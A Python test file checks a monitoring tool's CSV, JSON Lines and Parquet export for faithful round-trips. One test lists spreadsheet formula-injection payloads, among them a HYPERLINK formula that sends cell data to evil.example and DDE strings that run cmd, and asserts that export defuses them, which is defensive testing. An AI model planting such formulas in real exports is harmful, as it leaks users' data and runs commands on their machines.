"""Tables as CSV, JSON Lines and Parquet: what is written is what is read back."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from monitor.export import write_csv, write_jsonl
from monitor.export.lines import defused
from monitor.export.parquet import write_parquet

COLUMNS = {
    "title": str,
    "views": int,
    "views_per_hour": float,
    "is_seeded": bool,
    "seen_at": datetime,
    "rules": tuple[str, ...],
}
AT = datetime(2026, 11, 22, 20, 2, 4, 123_000, tzinfo=UTC)


def row(**values):
    plain = {
        "title": "Визасыз режим, «кеңири»",
        "views": 1200,
        "views_per_hour": -3.5,
        "is_seeded": False,
        "seen_at": AT,
        "rules": ("visa-free", "vakunov"),
    }
    return plain | values


NOTHING = row(title=None, views=None, views_per_hour=None, is_seeded=None, seen_at=None, rules=None)


def as_csv(*rows, bom=False) -> bytes:
    into = io.BytesIO()
    assert write_csv(rows, COLUMNS, into, bom=bom) == len(rows)
    assert not into.closed
    return into.getvalue()


def cells_of(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(), newline="")))


def test_csv_is_a_heading_and_rows():
    assert (
        as_csv(row())
        == (
            "title,views,views_per_hour,is_seeded,seen_at,rules\r\n"
            '"Визасыз режим, «кеңири»",1200,-3.5,false,2026-11-22T20:02:04.123000+00:00,'
            '"[""visa-free"", ""vakunov""]"\r\n'
        ).encode()
    )


def test_nothing_is_an_empty_cell():
    assert cells_of(as_csv(NOTHING))[1] == [""] * 6


def test_excel_is_told_that_it_is_utf_8_only_if_it_is_asked_for():
    assert as_csv(bom=True).startswith(b"\xef\xbb\xbftitle,")
    assert as_csv().startswith(b"title,")


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1 312 555",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
    ],
)
def test_a_title_is_never_a_formula(title):
    assert cells_of(as_csv(row(title=title)))[1][0] == "'" + title


@pytest.mark.parametrize("title", ["Growth of 5 %", "5 = 5", "'quoted'", "", "— said he", "a@b.kg"])
def test_a_plain_title_is_left_alone(title):
    assert cells_of(as_csv(row(title=title)))[1][0] == title


def test_a_negative_number_stays_a_number():
    cells = cells_of(as_csv(row(views=-5)))[1]

    assert (cells[1], cells[2]) == ("-5", "-3.5")


# A lone surrogate is no text: the database cannot hold one.
TEXTS = st.text(st.characters(exclude_categories=["Cs"]))


@given(st.lists(TEXTS, max_size=4))
def test_csv_says_every_text_again(titles):
    found = cells_of(as_csv(*(row(title=title) for title in titles)))

    assert [cells[0] for cells in found[1:]] == [defused(title) for title in titles]


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_a_row_is_a_line_of_json(titles):
    into = io.BytesIO()

    count = write_jsonl((row(title=title) for title in titles), COLUMNS, into)

    lines = into.getvalue().decode().split("\n")
    assert count == len(titles)
    assert lines.pop() == ""
    assert [json.loads(line)["title"] for line in lines] == titles


def test_a_separator_of_lines_within_a_text_is_escaped():
    into = io.BytesIO()

    write_jsonl([row(title="one\u2028two\u2029three\nfour")], COLUMNS, into)

    line = into.getvalue().decode()
    assert '"one\\u2028two\\u2029three\\nfour"' in line


def test_json_lines_keep_types():
    into = io.BytesIO()

    write_jsonl([row(), NOTHING], COLUMNS, into)

    first, second = (json.loads(line) for line in into.getvalue().splitlines())
    assert first == {
        "title": "Визасыз режим, «кеңири»",
        "views": 1200,
        "views_per_hour": -3.5,
        "is_seeded": False,
        "seen_at": "2026-11-22T20:02:04.123000+00:00",
        "rules": ["visa-free", "vakunov"],
    }
    assert set(second.values()) == {None}


def test_parquet_keeps_types():
    into = io.BytesIO()

    count = write_parquet([row(), NOTHING], COLUMNS, into)

    table = parquet.read_table(io.BytesIO(into.getvalue()))
    assert count == 2
    assert [str(field.type) for field in table.schema] == [
        "string",
        "int64",
        "double",
        "bool",
        "timestamp[us, tz=UTC]",
        "list<element: string>",
    ]
    assert table.to_pylist() == [row(rules=["visa-free", "vakunov"]), NOTHING]


def test_parquet_holds_one_row_group_at_a_time():
    into = io.BytesIO()
    written = []

    def rows():
        for number in range(25):
            written.append(into.tell())
            yield row(views=number)

    write_parquet(rows(), COLUMNS, into, group_rows=10)

    found = parquet.ParquetFile(io.BytesIO(into.getvalue()))
    groups = [found.metadata.row_group(i) for i in range(found.num_row_groups)]
    assert [group.num_rows for group in groups] == [10, 10, 5]
    assert {group.column(0).compression for group in groups} == {"ZSTD"}
    assert found.read().column("views").to_pylist() == list(range(25))
    assert written[9] < written[10] == written[19] < written[20]


@pytest.mark.parametrize("write", [write_csv, write_jsonl])
def test_what_is_written_keeps_up_with_what_is_read(write):
    into = io.BytesIO()
    written = []

    def rows():
        for number in range(20_000):
            written.append(into.tell())
            yield row(views=number, seen_at=AT + timedelta(minutes=number))

    write(rows(), COLUMNS, into)

    rooms = [after - before for before, after in pairwise([*written, into.tell()])]
    assert into.tell() > 1_000_000
    assert max(rooms) < 20_000


def test_an_empty_table_is_a_table():
    into = io.BytesIO()

    assert write_parquet([], COLUMNS, into) == 0
    assert parquet.read_table(io.BytesIO(into.getvalue())).column_names == list(COLUMNS)
    assert as_csv() == b"title,views,views_per_hour,is_seeded,seen_at,rules\r\n"
